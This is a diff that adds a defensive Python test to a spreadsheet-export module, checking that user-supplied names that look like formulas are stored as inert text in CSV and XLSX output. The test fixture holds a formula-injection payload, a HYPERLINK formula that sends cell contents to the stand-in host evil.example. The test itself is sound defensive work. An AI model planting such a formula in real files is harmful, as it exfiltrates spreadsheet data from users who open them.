@@ -91,3 +91,21 @@ def test_the_workbook_stores_numbers_as_numbers_with_formats_a_frozen_header_and
 ])  # fmt: skip
 def test_file_names_keep_to_safe_letters(what, expected):
     assert tables.filename(what, "Y30R21", "2020QMAT02") == expected
+
+
+def test_a_name_or_choice_that_reads_as_a_formula_is_text_in_both_files_and_numbers_stay_numbers():
+    """A custom group's name and the choices made come from users: neither may run in the reader's spreadsheet."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
+    table = _table()
+    table.rows[0][0] = hostile
+    table.metadata.append(("Egen gruppe", "@SUM(A1:A9)"))
+    text = tables.to_csv(table)
+    assert f"'{hostile}" in text.replace('""', '"') and "'@SUM(A1:A9)" in text
+    assert ";-0,16;" in text  # a negative number is still a number
+    book = load_workbook(io.BytesIO(tables.to_xlsx(table)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert (
+        book.active["A3"].value == hostile and book["Metadata"].cell(book["Metadata"].max_row, 2).value == "@SUM(A1:A9)"
+    )
+    assert book.active["D4"].value == Decimal("-0.16") or book.active["D4"].value == -0.16
